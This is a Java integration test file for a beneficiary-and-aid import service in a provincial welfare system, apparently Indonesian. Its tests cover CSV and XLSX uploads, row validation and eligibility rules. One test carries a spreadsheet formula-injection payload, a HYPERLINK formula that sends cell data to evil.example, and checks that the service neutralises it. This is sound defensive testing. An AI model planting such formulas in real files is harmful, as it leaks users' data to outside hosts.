package id.go.jambiprov.dumisake.beneficiary;

import id.go.jambiprov.dumisake.account.DumisakeUser;
import id.go.jambiprov.dumisake.allocation.AllocationView;
import id.go.jambiprov.dumisake.allocation.Mechanism;
import id.go.jambiprov.dumisake.allocation.NewAllocation;
import id.go.jambiprov.dumisake.allocation.internal.AllocationService;
import id.go.jambiprov.dumisake.beneficiary.internal.BeneficiaryImportService;
import id.go.jambiprov.dumisake.beneficiary.internal.BeneficiaryService;
import id.go.jambiprov.dumisake.beneficiary.internal.BeneficiaryView;
import id.go.jambiprov.dumisake.beneficiary.internal.ImportError;
import id.go.jambiprov.dumisake.beneficiary.internal.ImportResult;
import id.go.jambiprov.dumisake.programme.FiscalYearService;
import id.go.jambiprov.dumisake.programme.ProgrammeService;
import id.go.jambiprov.dumisake.programme.ProgrammeView;
import id.go.jambiprov.dumisake.shared.BusinessRuleException;
import org.apache.poi.xssf.usermodel.XSSFRow;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.context.MessageSource;
import org.springframework.context.i18n.LocaleContextHolder;
import org.springframework.jdbc.core.JdbcTemplate;

import java.io.ByteArrayOutputStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.List;

import static id.go.jambiprov.dumisake.beneficiary.BeneficiaryTestSupport.allocation;
import static id.go.jambiprov.dumisake.beneficiary.BeneficiaryTestSupport.as;
import static id.go.jambiprov.dumisake.beneficiary.BeneficiaryTestSupport.asSystem;
import static id.go.jambiprov.dumisake.beneficiary.BeneficiaryTestSupport.freshNik;
import static id.go.jambiprov.dumisake.beneficiary.BeneficiaryTestSupport.freshPlace;
import static id.go.jambiprov.dumisake.beneficiary.BeneficiaryTestSupport.operator;
import static id.go.jambiprov.dumisake.beneficiary.BeneficiaryTestSupport.programme;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

@SpringBootTest
@AutoConfigureMockMvc // not used here: it makes this the context of the MockMvc tests, started once for all
class BeneficiaryImportTest {

    static final DumisakeUser OP_DISDIK = operator("DISDIK");
    static final String HEADER = "nik,name,sex,date_of_birth,desa_code,address,phone,welfare_decile,allocation_id,"
            + "aid_amount,aid_date,aid_description\n";

    @Autowired
    BeneficiaryImportService imports;

    @Autowired
    BeneficiaryService beneficiaries;

    @Autowired
    AllocationService allocations;

    @Autowired
    ProgrammeService programmes;

    @Autowired
    FiscalYearService fiscalYears;

    @Autowired
    JdbcTemplate jdbc;

    @Autowired
    MessageSource messages;

    String desa;
    AllocationView allocation;

    @BeforeEach
    void anAllocationOf2048() {
        BeneficiaryTestSupport.Place place = freshPlace(fiscalYears, jdbc, BeneficiaryTestSupport.YEAR);
        desa = place.desa();
        ProgrammeView programme = programme(programmes, null);
        allocation = allocation(allocations, place.kecamatan(), "DISDIK", programme.code(), new BigDecimal("10000000.00"));
    }

    @Test
    void aGoodCsvFileIsImportedWithItsAid() {
        String first = freshNik();
        String second = freshNik();
        String csv = HEADER
                + row(first, "Penerima Sintetis Satu", "1000000", "Seragam sekolah")
                + row(second, "Penerima Sintetis Dua", "", "");

        ImportResult result = as(OP_DISDIK, () -> imports.importFile("penerima.csv", bytes(csv)));

        assertThat(result.succeeded()).isTrue();
        assertThat(result.beneficiariesCreated()).isEqualTo(2);
        assertThat(result.aidCreated()).isEqualTo(1);
        assertThat(count("select count(*) from beneficiary where nik in (?, ?)", first, second)).isEqualTo(2);
        assertThat(count("select count(*) from aid where nik = ? and allocation_id = " + allocation.id(), first)).isEqualTo(1);
        assertThat(jdbc.queryForObject("select registered_opd from beneficiary where nik = ?", String.class, first))
                .isEqualTo("DISDIK");
    }

    @Test
    void aGoodXlsxFileIsImported() throws Exception {
        String nik = freshNik();
        byte[] xlsx = workbook(List.of(
                List.of("nik", "name", "sex", "date_of_birth", "desa_code", "address", "phone", "welfare_decile"),
                List.of(nik, "Penerima Sintetis Xlsx", "F", "1990-07-01", desa, "Jl. Uji", "", "2")));

        ImportResult result = as(OP_DISDIK, () -> imports.importFile("penerima.xlsx", xlsx));

        assertThat(result.succeeded()).as(result.errors().toString()).isTrue();
        assertThat(count("select count(*) from beneficiary where nik = ?", nik)).isEqualTo(1);
    }

    @Test
    void aFileWithErrorsInSomeRowsWritesNothingAndReportsEveryError() {
        String good = freshNik();
        String twice = freshNik();
        String csv = HEADER
                + row(good, "Penerima Baik", "1000000", "")
                + "1501014107900000,Serial Nol,F,1990-07-01," + desa + ",Jl. Uji,,3,,,,\n"            // row 3: serial
                + row(twice, "Penerima Ganda", "", "")
                + row(twice, "Penerima Ganda Lagi", "", "")                                          // row 5: twice
                + freshNik() + ",Salah Kelamin,M,1990-07-01," + desa + ",Jl. Uji,,3,,,,\n"           // row 6: sex
                + freshNik() + ",Desa Asing,F,1990-07-01,99.99.99.9999,Jl. Uji,,3,,,,\n"              // row 7: desa
                + row(freshNik(), "Terlalu Besar", "20000000", "");                                  // row 8: room

        ImportResult result = as(OP_DISDIK, () -> imports.importFile("penerima.csv", bytes(csv)));

        assertThat(result.succeeded()).isFalse();
        assertThat(result.errors()).extracting(ImportError::row).containsExactlyInAnyOrder(3, 5, 6, 7, 8);
        assertThat(result.errors()).extracting(ImportError::column)
                .containsExactlyInAnyOrder("nik", "nik", "sex", "desa_code", "aid_amount");
        assertThat(count("select count(*) from beneficiary where nik in (?, ?)", good, twice)).isZero();
        String report = as(OP_DISDIK, () -> imports.errorReport(result.id()));
        assertThat(report.lines()).hasSize(6);
    }

    /** The import asks {@code AidEligibility} as the single record does, and reports each refusal on its row. */
    @Test
    void theAidOfEachRowIsRefusedByTheRulesOfASingleRecord() {
        String kecamatan = allocation.kecamatanCode();
        String elsewhere = jdbc.queryForObject("select code from desa where kecamatan_code <> ? order by code limit 1",
                String.class, kecamatan);
        ProgrammeView poorest = programme(programmes, 2);
        AllocationView limited = allocation(allocations, kecamatan, "DISDIK", poorest.code(), new BigDecimal("5000000.00"));
        AllocationView transfer = asSystem(() -> allocations.create(new NewAllocation(BeneficiaryTestSupport.YEAR,
                kecamatan, "DISDIK", poorest.code(), Mechanism.BANTUAN_KEUANGAN_KABKOTA, null, "Transfer (uji)",
                new BigDecimal("1000000.00"), 3)));
        String again = freshNik();
        String csv = HEADER
                + freshNik() + ",Tahun Lain,F,1990-07-01," + desa + ",Jl. Uji,,3," + allocation.id()
                + ",100000,2047-03-10,\n"                                                            // row 2: year
                + freshNik() + ",Kecamatan Lain,F,1990-07-01," + elsewhere + ",Jl. Uji,,3," + allocation.id()
                + ",100000,2048-03-10,\n"                                                            // row 3: place
                + freshNik() + ",Desil Tinggi,F,1990-07-01," + desa + ",Jl. Uji,,3," + limited.id()
                + ",100000,2048-03-10,\n"                                                            // row 4: decile
                + row(again, "Sekali", "100000", "")
                + row(again, "Dua Kali", "100000", "")                                                // row 6: again
                + freshNik() + ",Transfer,F,1990-07-01," + desa + ",Jl. Uji,,1," + transfer.id()
                + ",100000,2048-03-10,\n";                                                           // row 7: transfer

        ImportResult result = as(OP_DISDIK, () -> imports.importFile("penerima.csv", bytes(csv)));

        assertThat(result.errors()).containsExactly(
                new ImportError(2, "aid_date", message("aid.dateOutsideYear", BeneficiaryTestSupport.YEAR), "2047-03-10"),
                new ImportError(3, "desa_code", message("aid.desaOutsideKecamatan", elsewhere,
                        allocation.kecamatanName()), elsewhere),
                new ImportError(4, "welfare_decile", message("aid.decileNotEligible", poorest.name(), 2), "3"),
                new ImportError(6, "nik", message("aid.doubleReceipt", allocation.programmeName(),
                        BeneficiaryTestSupport.YEAR), again),
                new ImportError(7, "allocation_id", message("aid.mechanism"), String.valueOf(transfer.id())));
    }

    /**
     * A registered person is not changed by the import, so the row's desa and decile must not decide their aid:
     * otherwise a file gets round the kecamatan and decile rules by naming another desa or a lower decile.
     */
    @Test
    void theAidOfARegisteredPersonIsCheckedAgainstTheStoredPersonNotTheRow() {
        String kecamatan = allocation.kecamatanCode();
        String elsewhere = jdbc.queryForObject("select code from desa where kecamatan_code <> ? order by code limit 1",
                String.class, kecamatan);
        ProgrammeView poorest = programme(programmes, 2);
        AllocationView limited = allocation(allocations, kecamatan, "DISDIK", poorest.code(), new BigDecimal("5000000.00"));
        BeneficiaryView livesElsewhere = as(OP_DISDIK, () -> beneficiaries.register(
                BeneficiaryTestSupport.person(freshNik(), elsewhere, 1)));
        BeneficiaryView notPoor = as(OP_DISDIK, () -> beneficiaries.register(
                BeneficiaryTestSupport.person(freshNik(), desa, 7)));
        BeneficiaryView eligible = as(OP_DISDIK, () -> beneficiaries.register(
                BeneficiaryTestSupport.person(freshNik(), desa, 1)));
        String csv = HEADER
                + livesElsewhere.nik() + ",Pindah Di Berkas,F,1990-07-01," + desa + ",Jl. Uji,,1," + limited.id()
                + ",100000,2048-03-10,\n"                                                           // row 2: place
                + notPoor.nik() + ",Desil Di Berkas,F,1990-07-01," + desa + ",Jl. Uji,,1," + limited.id()
                + ",100000,2048-03-10,\n"                                                           // row 3: decile
                + eligible.nik() + ",Tempat Lain Di Berkas,F,1990-07-01," + elsewhere + ",Jl. Uji,,9," + limited.id()
                + ",100000,2048-03-10,\n";                                                          // row 4: stored ok

        ImportResult result = as(OP_DISDIK, () -> imports.importFile("penerima.csv", bytes(csv)));

        assertThat(result.errors()).containsExactly(
                new ImportError(2, "nik", message("import.registeredOutsideKecamatan", allocation.kecamatanName()),
                        livesElsewhere.nik()),
                new ImportError(3, "nik", message("import.registeredDecileNotEligible", poorest.name(), 2),
                        notPoor.nik()));
        assertThat(count("select count(*) from aid where allocation_id = " + limited.id())).isZero();

        ImportResult stored = as(OP_DISDIK, () -> imports.importFile("penerima.csv",
                bytes(HEADER + csv.lines().skip(3).findFirst().orElseThrow() + "\n")));
        assertThat(stored.succeeded()).as(stored.errors().toString()).isTrue();
        assertThat(stored.aidCreated()).isEqualTo(1);
        assertThat(stored.beneficiariesCreated()).isZero();
    }

    @Test
    void anEmptyFileIsRefused() {
        assertRefused("kosong.csv", new byte[0], "IMPORT_EMPTY");
        assertRefused("hanya-judul.csv", bytes(HEADER), "IMPORT_EMPTY");
    }

    @Test
    void aFileOfTheWrongTypeIsRefused() {
        assertRefused("foto.png", new byte[]{(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10, 0, 0}, "IMPORT_WRONG_TYPE");
        assertRefused("penerima.csv", new byte[]{(byte) 0xFF, (byte) 0xFE, 0, 'n', 0, 'i'}, "IMPORT_WRONG_TYPE");
        assertRefused("penerima.pdf", bytes("%PDF-1.7\n"), "IMPORT_WRONG_TYPE");
        assertRefused("rusak.xlsx", new byte[]{'P', 'K', 3, 4, 1, 2, 3}, "IMPORT_WRONG_TYPE");
    }

    @Test
    void formulaLikeCellsAreStoredAsTextAndNeutralisedInTheErrorReport() {
        String nik = freshNik();
        String formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"klik\")";
        String csv = HEADER
                + nik + ",\"" + formula.replace("\"", "\"\"") + "\",F,1990-07-01," + desa + ",\"+62 Jl. Uji\",,3,,,,\n";

        ImportResult stored = as(OP_DISDIK, () -> imports.importFile("penerima.csv", bytes(csv)));

        assertThat(stored.succeeded()).isTrue();
        assertThat(jdbc.queryForObject("select name from beneficiary where nik = ?", String.class, nik)).isEqualTo(formula);

        String refused = HEADER + "=HYPERLINK(\"\"http://evil.example\"\")," + "Nama,F,1990-07-01," + desa + ",Jl.,,3,,,,\n";
        ImportResult result = as(OP_DISDIK, () -> imports.importFile("penerima.csv", bytes(refused)));
        String report = as(OP_DISDIK, () -> imports.errorReport(result.id()));
        assertThat(report).contains("'=HYPERLINK").doesNotContain(",=HYPERLINK").doesNotContain("\"=HYPERLINK");
    }

    private String row(String nik, String name, String amount, String description) {
        String aid = amount.isEmpty() ? ",," : allocation.id() + "," + amount + ",2048-03-10";
        return nik + "," + name + ",F,1990-07-01," + desa + ",Jl. Uji No. 1,,3," + aid + "," + description + "\n";
    }

    private String message(String key, Object... args) {
        return messages.getMessage(key, args, LocaleContextHolder.getLocale());
    }

    private void assertRefused(String fileName, byte[] content, String code) {
        assertThatThrownBy(() -> as(OP_DISDIK, () -> imports.importFile(fileName, content)))
                .isInstanceOfSatisfying(BusinessRuleException.class, e -> assertThat(e.code()).isEqualTo(code));
    }

    private int count(String sql, Object... args) {
        return jdbc.queryForObject(sql, Integer.class, args);
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] workbook(List<List<String>> rows) throws Exception {
        try (XSSFWorkbook workbook = new XSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            XSSFSheet sheet = workbook.createSheet("penerima");
            for (int r = 0; r < rows.size(); r++) {
                XSSFRow row = sheet.createRow(r);
                for (int c = 0; c < rows.get(r).size(); c++) {
                    row.createCell(c).setCellValue(rows.get(r).get(c));
                }
            }
            workbook.write(out);
            return out.toByteArray();
        }
    }
}
